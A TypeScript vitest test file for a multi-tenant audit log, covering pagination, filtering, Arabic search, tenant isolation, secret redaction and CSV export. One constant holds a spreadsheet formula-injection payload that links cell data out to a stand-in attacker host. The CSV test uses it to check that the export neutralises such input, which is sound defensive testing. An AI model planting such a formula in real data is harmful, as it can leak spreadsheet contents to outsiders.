import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createTestDatabase, makeTenant, type TestDatabase } from '../../../test/database.ts';
import type { TenantId } from '../../platform/ids.ts';
import { type AuditChange, type AuditFilter, type AuditSource, exportAudit, listAudit, listOperatorAudit, recordAudit } from './index.ts';

let base: TestDatabase;
let tenantId: TenantId;
let other: TenantId;

const source = (action: string, given: Partial<AuditSource> = {}): AuditSource => ({
  action,
  actor: { kind: 'user', id: 'usr_sara', name: 'سارة العلي' },
  reason: null,
  address: '203.0.113.7',
  device: 'Chrome on Android',
  requestId: 'req-1',
  ...given,
});
const note = (home: TenantId, by: AuditSource, change: AuditChange = {}) =>
  base.database.withTenant(home, (db) => recordAudit(db, by, change));

const HOSTILE = '=HYPERLINK("http://evil.example?x="&A1,"click"), "quoted"\nsecond line';

beforeAll(async () => {
  base = await createTestDatabase();
  ({ tenantId } = await makeTenant(base.database, { slug: 'audited' }));
  ({ tenantId: other } = await makeTenant(base.database));
  await note(tenantId, source('member.invited'), { target: { kind: 'invitation', id: 'inv_1', label: 'huda_50%@example.com' } });
  await note(tenantId, source('member.role_changed'), {
    target: { kind: 'member', id: 'usr_2', label: 'أحمد مُؤمن' },
    before: { role: 'agent' },
    after: { role: 'manager', apiToken: 'very-secret' },
  });
  await note(tenantId, source('tenant.renamed', { actor: { kind: 'api_key', id: 'key_1', name: '+Till' } }), {
    target: { kind: 'tenant', id: 't', label: HOSTILE },
  });
  await note(
    tenantId,
    source('operator.entered', { actor: { kind: 'operator', id: 'usr_op', name: 'Olga' }, reason: 'Ticket 4711: replies are late' }),
  );
  await note(other, source('member.invited', { actor: { kind: 'user', id: 'usr_sara', name: 'Stranger' } }));
  await note(other, source('tenant.suspended', { actor: { kind: 'operator', id: 'usr_op', name: 'Olga' }, reason: 'Unpaid since May' }));
  // Times that only microseconds tell apart, and two that nothing does.
  await base.asOwner(
    `update audit_entry e set at = '2026-05-01T10:00:00Z'::timestamptz + (r.n / 2) * interval '1 microsecond'
     from (select id, row_number() over (order by id) as n from audit_entry) r where r.id = e.id`,
  );
});
afterAll(() => base.close());

const actions = async (filter: AuditFilter): Promise<string[]> =>
  (await base.database.withTenant(tenantId, (db) => listAudit(db, { ...filter, limit: 50 }))).items.map((entry) => entry.action);

describe('the log of a tenant', () => {
  test('is read newest first, in pages that neither skip nor repeat, also where times are equal', async () => {
    const seen: string[] = [];
    let cursor: string | undefined;
    do {
      const page = await base.database.withTenant(tenantId, (db) => listAudit(db, { cursor, limit: 1 }));
      seen.push(...page.items.map((entry) => entry.action));
      cursor = page.nextCursor ?? undefined;
    } while (cursor);
    expect(seen).toEqual(['operator.entered', 'tenant.renamed', 'member.role_changed', 'member.invited']);
  });

  test('shows what changed without secrets, and from where', async () => {
    const { items } = await base.database.withTenant(tenantId, (db) => listAudit(db, { action: 'member.role_changed', limit: 5 }));
    expect(items).toMatchObject([
      {
        actor: { kind: 'user', id: 'usr_sara', name: 'سارة العلي' },
        target: { kind: 'member', id: 'usr_2', label: 'أحمد مُؤمن' },
        before: { role: 'agent' },
        after: { role: 'manager', apiToken: '[redacted]' },
        reason: null,
        address: '203.0.113.7',
        device: 'Chrome on Android',
        requestId: 'req-1',
      },
    ]);
  });

  test('shows that an operator came in, and why', async () => {
    const { items } = await base.database.withTenant(tenantId, (db) => listAudit(db, { action: 'operator', limit: 5 }));
    expect(items).toMatchObject([{ actor: { kind: 'operator', name: 'Olga' }, reason: 'Ticket 4711: replies are late', target: null }]);
  });

  test('is filtered by an action or by its noun, by actor and by time', async () => {
    expect(await actions({ action: 'member' })).toEqual(['member.role_changed', 'member.invited']);
    expect(await actions({ action: 'member.invited' })).toEqual(['member.invited']);
    expect(await actions({ action: 'mem' })).toEqual([]);
    expect(await actions({ actorId: 'key_1' })).toEqual(['tenant.renamed']);
    expect(await actions({ from: '2026-05-01T10:00:00Z', to: '2026-05-01T10:00:01Z' })).toHaveLength(4);
    expect(await actions({ to: '2026-05-01T10:00:00Z' })).toEqual([]);
    expect(await actions({ from: '2026-05-01T10:00:01Z' })).toEqual([]);
  });

  test.each([
    ['a name without its harakat and hamza', 'احمد مومن', ['member.role_changed']],
    ['a name with more of them', 'أَحْمَد', ['member.role_changed']],
    ['the other form of a letter', 'ساره', ['member.role_changed', 'member.invited']],
    ['Arabic digits', '٤٧١١', ['operator.entered']],
    ['letters of either case', 'REPLIES are', ['operator.entered']],
    ['an id', 'inv_1', ['member.invited']],
    ['a percent sign as it stands', '50%', ['member.invited']],
    ['an underscore as it stands', 'huda_5', ['member.invited']],
    ['no wildcard', 'h%a', []],
    ['no wildcard of one letter', 'hud_@', []],
    ['a backslash', '\\', []],
  ])('is searched by %s', async (_what, q, found) => {
    expect(await actions({ q })).toEqual(found);
  });

  test('does not see another tenant’s', async () => {
    expect(await actions({ q: 'Stranger' })).toEqual([]);
    const theirs = await base.database.withTenant(other, (db) => listAudit(db, { limit: 50 }));
    expect(theirs.items.map((entry) => entry.action)).toEqual(['tenant.suspended', 'member.invited']);
  });

  test('refuses a cursor that is none', async () => {
    await expect(base.database.withTenant(tenantId, (db) => listAudit(db, { cursor: 'x', limit: 5 }))).rejects.toMatchObject({
      code: 'request.invalid',
    });
  });
});

describe('the log as CSV', () => {
  const read = async (filter: AuditFilter = {}, home = tenantId) => {
    const parts: Uint8Array[] = [];
    for await (const part of exportAudit(base.database, home, filter)) parts.push(part);
    return { text: Buffer.concat(parts).toString('utf8'), parts: parts.length };
  };

  test('holds what the list holds, readable by a spreadsheet, and runs nothing in it', async () => {
    const { text } = await read();
    expect(text.startsWith('\uFEFFat,action,')).toBe(true);
    const { data } = Papa.parse<Record<string, string>>(text.slice(1), { header: true, skipEmptyLines: true });
    expect(data.map((row) => row['action'])).toEqual(['operator.entered', 'tenant.renamed', 'member.role_changed', 'member.invited']);
    expect(data[1]).toMatchObject({ actor: "'+Till", target: `'${HOSTILE}` });
    expect(data[2]).toMatchObject({ target: 'أحمد مُؤمن', before: '{"role":"agent"}' });
    expect(text).not.toContain('very-secret');
  });

  test('obeys the filter and the wall', async () => {
    const { text } = await read({ action: 'member' });
    expect(text.match(/member\./g)).toHaveLength(2);
    expect((await read({}, other)).text).not.toContain('4711');
  });

  test('comes in batches, each row once', async () => {
    const { tenantId: busy } = await makeTenant(base.database);
    await base.asOwner(
      `insert into audit_entry (id, tenant_id, at, action, actor_kind, actor_name)
       select 'aud_' || lpad(n::text, 5, '0'), $1, '2026-05-01T10:00:00Z'::timestamptz + (n / 7) * interval '1 second', 'a.b', 'system', n::text
       from generate_series(1, 1200) n`,
      [busy],
    );
    const { text, parts } = await read({}, busy);
    const { data } = Papa.parse<Record<string, string>>(text.slice(1), { header: true, skipEmptyLines: true });
    expect(data.map((row) => Number(row['actor']))).toEqual(Array.from({ length: 1200 }, (_, index) => 1200 - index));
    expect(parts).toBe(4);
  });
});

describe('what operators did', () => {
  test('is one list over all tenants, by the very rows that the tenants see', async () => {
    const first = await base.database.withAccess((db) => listOperatorAudit(db, { limit: 1 }));
    const second = await base.database.withAccess((db) => listOperatorAudit(db, { limit: 1, cursor: first.nextCursor ?? '' }));
    expect([...first.items, ...second.items]).toMatchObject([
      { action: 'tenant.suspended', reason: 'Unpaid since May', tenant: { id: other } },
      { action: 'operator.entered', tenant: { id: tenantId, slug: 'audited' } },
    ]);
    expect(second.nextCursor).toBeNull();
    const { items } = await base.database.withTenant(tenantId, (db) => listAudit(db, { action: 'operator', limit: 5 }));
    expect(items[0]?.id).toBe(second.items[0]?.id);
  });

  test('outside every tenant has no tenant', async () => {
    await base.asOwner(
      "insert into audit_entry (id, action, actor_kind, actor_name) values ('aud_zzz', 'session.started', 'operator', 'Olga')",
    );
    const { items } = await base.database.withAccess((db) => listOperatorAudit(db, { limit: 1 }));
    expect(items).toMatchObject([{ action: 'session.started', tenant: null }]);
  });
});
